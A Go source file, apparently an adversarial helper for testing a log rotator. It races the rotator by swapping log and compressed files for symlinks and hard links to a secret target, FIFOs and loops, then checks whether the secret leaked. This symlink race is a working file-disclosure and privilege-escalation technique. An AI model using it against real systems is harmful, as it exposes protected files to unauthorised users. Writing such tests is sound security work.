package main

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// setTraps is a service that tries to become root: set-traps DIR TARGET for=D [last=NAME]. For this
// long it replaces the log files in its directory DIR, the rotated files and the files that
// are being compressed by links to TARGET, FIFOs and second names, as fast as it can. Then it checks whether
// it can read the beginning of TARGET ("secret=") anywhere, leaves a link to TARGET at
// NAME, and says how often it did what.
func setTraps(w words) int {
	dir, target := w.arg(0, "."), w.arg(1, "")
	if err := os.Chdir(dir); err != nil {
		w.refuse(err)
	}
	swaps := 0
	for end := time.Now().Add(w.length("for")); time.Now().Before(end); {
		names, _ := filepath.Glob("*.log*")
		for _, name := range names {
			swaps += setTrap(name, target)
		}
	}
	leaked := 0
	names, _ := filepath.Glob("*.log*")
	for _, name := range names {
		if strings.Contains(readAny(name), "secret=") {
			leaked++
		}
	}
	if last := w.options["last"]; last != "" { // however rarely we ran, this one is met
		_ = os.Remove(last)
		if err := os.Symlink(target, last); err != nil {
			return w.fail(err)
		}
	}
	fmt.Printf("traps: %d, leaked: %d\n", swaps, leaked)
	return 0
}

// setTrap replaces one file by something else, or puts it next to the file, where the
// compressor would write.
func setTrap(name, target string) int {
	const made = ".trap"
	_ = os.Remove(made)
	var err error
	switch rand.IntN(6) {
	case 0:
		err = unix.Mkfifo(made, 0o666)
	case 1:
		err = os.Link(target, made)
	case 2:
		err = os.WriteFile(made, []byte("mine\n"), 0o666)
	case 3:
		err = os.Symlink(made, made) // a loop
	default:
		err = os.Symlink(target, made)
	}
	if err != nil {
		return 0
	}
	base := strings.TrimSuffix(strings.TrimSuffix(name, ".part"), ".gz")
	switch rand.IntN(4) {
	case 0:
		name = base + ".gz.part"
	case 1:
		name = base + ".gz"
	}
	if rand.IntN(2) == 0 && unix.Renameat2(unix.AT_FDCWD, made, unix.AT_FDCWD, name, unix.RENAME_EXCHANGE) == nil {
		return 1
	}
	if os.Rename(made, name) != nil {
		return 0
	}
	return 1
}

// readAny returns the text of a file, compressed or not, if we may read it.
func readAny(name string) string {
	fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOFOLLOW, 0)
	if err != nil {
		return ""
	}
	defer unix.Close(fd)
	var text bytes.Buffer
	for buffer := make([]byte, 64<<10); ; {
		n, err := unix.Read(fd, buffer)
		if n <= 0 || err != nil {
			break
		}
		text.Write(buffer[:n])
	}
	if z, err := gzip.NewReader(bytes.NewReader(text.Bytes())); err == nil {
		plain, _ := io.ReadAll(z)
		return string(plain)
	}
	return text.String()
}
